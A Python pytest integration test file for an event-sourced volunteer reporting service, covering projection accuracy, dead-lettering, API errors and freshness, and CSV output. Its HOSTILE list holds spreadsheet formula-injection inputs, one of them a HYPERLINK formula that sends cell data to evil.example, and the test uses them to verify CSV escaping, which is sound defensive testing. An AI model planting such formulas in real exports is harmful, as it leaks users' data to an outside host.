"""The live projection against a real nats-server and a real database (SQLite and PostgreSQL)."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from datetime import timedelta

import httpx
import pytest
from nats.aio.client import Client

from services.reporting.app import ReportingApp
from shared.envelope import H_DLQ_REASON, H_DLQ_STREAM_SEQ, event_subject
from shared.eventstore import EventStore
from shared.hosting import hosted
from shared.settings import Settings
from tests.integration.reporting.campaign import START, generate
from tests.integration.reporting.conftest import publish
from tests.integration.reporting.expected import expected_view
from tests.integration.reporting.observe import observed_view
from tests.support.waiting import eventually

PROVINCES = ["01", "79", "68"]
DAYS = [START + timedelta(days=n) for n in range(8)]


@pytest.fixture
async def service(rsettings: Settings) -> AsyncIterator[ReportingApp]:
    settings = rsettings.model_copy(update={"reporting_batch_size": 200})
    # min_position waits up to 4 s: long enough for the 40-volunteer log on a loaded machine (two
    # test workers beside other work), short enough that the 503 answers stay quick
    async with hosted(settings, "reporting", lambda nc, s: ReportingApp(nc, s, max_wait_s=4.0)) as svc:
        yield svc


def client(svc: ReportingApp) -> httpx.AsyncClient:
    return httpx.AsyncClient(base_url=f"http://127.0.0.1:{svc.server.port}", timeout=10)


async def caught_up(svc: ReportingApp, seq: int) -> None:
    async def done() -> bool:
        return (await svc.store.position()).position >= seq

    await eventually(done, f"projection at {seq}", 30)


async def test_every_figure_equals_the_fold_of_the_log(
    service: ReportingApp, store: EventStore, rsettings: Settings
) -> None:
    """Given a generated campaign log, when the projection has caught up, then every figure the
    API serves equals the figure folded straight from the events."""
    log = generate(rsettings.hub, volunteers=600, teams=60, days=6)
    last = await publish(store, log)
    await caught_up(service, last)
    async with client(service) as http:
        observed = await observed_view(http, PROVINCES, DAYS)
    expected = expected_view(log, PROVINCES, DAYS)
    for key in expected:
        assert observed[key] == expected[key], key
    assert len(log) > 3_000


async def test_poison_event_is_dead_lettered_and_later_events_count(
    service: ReportingApp, store: EventStore, nc: Client, rsettings: Settings
) -> None:
    """Given an undecodable message and an unknown event type in the log, they land in the
    dead-letter stream with the reason, and the events after them are still counted."""
    log = generate(rsettings.hub, volunteers=30, teams=3, days=1)
    js = nc.jetstream()
    subject = event_subject(rsettings.hub, "registry", "volunteer", "bad")
    await js.publish(subject, b"{not json", stream=rsettings.event_stream)
    unknown = log[1][1].model_copy(update={"event_type": "registry.volunteer_levitated"})
    await js.publish(subject, unknown.to_bytes(), stream=rsettings.event_stream)
    last = await publish(store, log)
    await caught_up(service, last)
    sub = await js.pull_subscribe(f"vhub.dlq.{rsettings.hub}.>", stream=rsettings.dlq_stream)
    dead = await sub.fetch(2, timeout=5)
    reasons = {int((m.headers or {})[H_DLQ_STREAM_SEQ]): (m.headers or {})[H_DLQ_REASON] for m in dead}
    assert "undecodable envelope" in reasons[1]
    assert "unknown event type 'registry.volunteer_levitated'" in reasons[2]
    async with client(service) as http:
        body = (await http.get("/v1/summary")).json()
    expected = expected_view(log, PROVINCES, [])
    assert body["figures"] == expected["summary"]["figures"]
    assert body["freshness"]["position"] == last


async def test_api_answers_with_freshness_errors_and_csv(
    service: ReportingApp, store: EventStore, rsettings: Settings
) -> None:
    """404 names the unknown code, 422 refuses bad values, min_position waits or answers 503
    with Retry-After, lists stream as CSV, and every answer says how fresh it is."""
    log = generate(rsettings.hub, volunteers=40, teams=4, days=2)
    last = await publish(store, log)
    async with client(service) as http:
        waited = await http.get("/v1/summary", params={"min_position": last})
        assert waited.status_code == 200
        assert waited.json()["freshness"]["position"] >= last
        assert waited.headers["Vhub-Position"] == str(waited.json()["freshness"]["position"])
        assert waited.json()["freshness"]["last_event_at"] == log[-1][1].recorded_at.isoformat()
        behind = await http.get("/v1/provinces", params={"min_position": last + 1_000})
        assert behind.status_code == 503
        assert behind.headers["Retry-After"] == "1"
        assert behind.json()["detail"]["reason"] == "projection_behind"
        for path in (
            "/v1/provinces/99",
            "/v1/provinces/xx/communes",
            "/v1/communes/99999",
            "/v1/daily?province=98",
        ):
            resp = await http.get(path)
            assert resp.status_code == 404, path
            assert resp.json()["detail"]["reason"].startswith("unknown_")
        for path in (
            "/v1/daily?from=2025-13-01",
            "/v1/daily?from=2025-07-05&to=2025-07-01",
            "/v1/teams?focus=dancing",
            "/v1/teams?page=0",
            "/v1/summary?min_position=x",
            "/v1/border-communes?covered=sometimes",
            "/v1/coverage?date=soon",
            "/v1/provinces?format=xml",
            "/v1/teams?province=abc",
        ):
            assert (await http.get(path)).status_code == 422, path
        for path in (
            "/v1/provinces",
            "/v1/provinces/01/communes",
            "/v1/daily",
            "/v1/teams",
            "/v1/border-communes",
            "/v1/coverage",
            "/v1/possible-duplicates",
        ):
            resp = await http.get(path, params={"format": "csv"})
            assert resp.status_code == 200, path
            assert resp.headers["content-type"].startswith("text/csv")
            assert resp.headers["Vhub-Position"] == str(last)
            lines = resp.text.splitlines()
            assert lines
            assert "," in lines[0]
        teams_csv = (await http.get("/v1/teams?format=csv")).text.splitlines()
        assert len(teams_csv) == 1 + 4
        code = log[1][1].data["commune_code"]
        one = await http.get(f"/v1/communes/{int(code)}")  # unpadded codes are accepted
        assert one.status_code == 200
        assert one.json()["figures"] == expected_view(log, PROVINCES, [])["communes"][code]
        spec = (await http.get("/openapi.json")).json()
        assert {"/v1/summary", "/v1/teams", "/v1/border-communes"} <= set(spec["paths"])
        assert all(set(ops) == {"get"} for ops in spec["paths"].values())
        assert (await http.get("/readyz")).status_code == 200
        assert "vhub_consumer_position" in (await http.get("/metrics")).text
        daily = (
            await http.get("/v1/daily", params={"province": "1", "from": str(START), "to": str(START)})
        ).json()
        assert [row["day"] for row in daily["items"]] == [str(START)]


async def test_min_position_waits_for_a_write_that_lands_during_the_wait(
    service: ReportingApp, store: EventStore, rsettings: Settings
) -> None:
    """A reader asking for a position not yet written is answered as soon as it is applied."""
    log = generate(rsettings.hub, volunteers=20, teams=2, days=1)
    last_seq: dict[str, int] = {}
    last = await publish(store, log[:-1], last_seq)
    await caught_up(service, last)
    async with client(service) as http:
        waiting = asyncio.create_task(http.get("/v1/summary", params={"min_position": last + 1}))
        written = await publish(store, log[-1:], last_seq)
        answer = await waiting
    assert answer.status_code == 200
    assert answer.json()["freshness"]["position"] == written == last + 1


async def test_a_hubs_own_reporting_says_how_far_it_goes_in_the_hubs_log(
    service: ReportingApp, store: EventStore, rsettings: Settings
) -> None:
    """A hub's own reporting reads the hub's own stream: every answer has one hub, ``local``, at
    the stream's position with no lag once caught up; ``min_position=<hub>:<version>`` waits
    for it like the plain form, and a hub whose log it does not read is refused with a reason."""
    hub = rsettings.hub
    log = generate(hub, volunteers=20, teams=2, days=1)
    last_seq: dict[str, int] = {}
    last = await publish(store, log[:-1], last_seq)
    await caught_up(service, last)
    await service.links.poll()
    async with client(service) as http:
        body = (await http.get("/v1/summary", params={"min_position": f"{hub}:{last}"})).json()
        assert body["freshness"]["hubs"] == [
            {
                "hub": hub,
                "position": last,
                "last_event_at": log[-2][1].recorded_at.isoformat(),
                "lag": 0,
                "source": "local",
                "cut_off_since": None,
            }
        ]
        waiting = asyncio.create_task(http.get("/v1/provinces", params={"min_position": f"{hub}:{last + 1}"}))
        written = await publish(store, log[-1:], last_seq)
        answer = await waiting
        assert answer.status_code == 200
        assert answer.json()["freshness"]["hubs"][0]["position"] == written
        assert answer.headers["Vhub-Hub-Positions"] == f"{hub}:{written}"
        behind = await http.get("/v1/summary", params={"min_position": f"{last},{hub}:{written + 5}"})
        assert behind.status_code == 503
        assert behind.json()["detail"] | {"message": ""} == {
            "reason": "projection_behind",
            "position": written,
            "min_position": written + 5,
            "hub": hub,
            "message": "",
        }
        other = await http.get("/v1/summary", params={"min_position": "zz:1"})
        assert other.status_code == 422
        assert other.json()["detail"]["reason"] == "hub_not_read"
        fresh = (await http.get("/v1/freshness")).json()
        assert [(h["hub"], h["events_applied"]) for h in fresh["hubs"]] == [(hub, fresh["events_applied"])]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


async def test_csv_cells_cannot_start_a_formula(
    service: ReportingApp, store: EventStore, rsettings: Settings
) -> None:
    """Given teams whose organisation starts like a spreadsheet formula, the CSV quotes each such
    cell with a leading apostrophe (OWASP), while the JSON keeps the text as recorded."""
    log = generate(rsettings.hub, volunteers=40, teams=len(HOSTILE), days=1)
    formed = [env for _, env in log if env.event_type == "registry.team_formed"]
    for env, text in zip(formed, HOSTILE, strict=True):
        env.data["organisation"] = text
    last = await publish(store, log)
    async with client(service) as http:
        body = await http.get("/v1/teams", params={"format": "csv", "min_position": last})
        page = (await http.get("/v1/teams", params={"min_position": last})).json()
    cells = [row["organisation"] for row in csv.DictReader(io.StringIO(body.text, newline=""))]
    assert sorted(cells) == sorted("'" + text for text in HOSTILE)
    assert sorted(t["organisation"] for t in page["items"]) == sorted(HOSTILE)
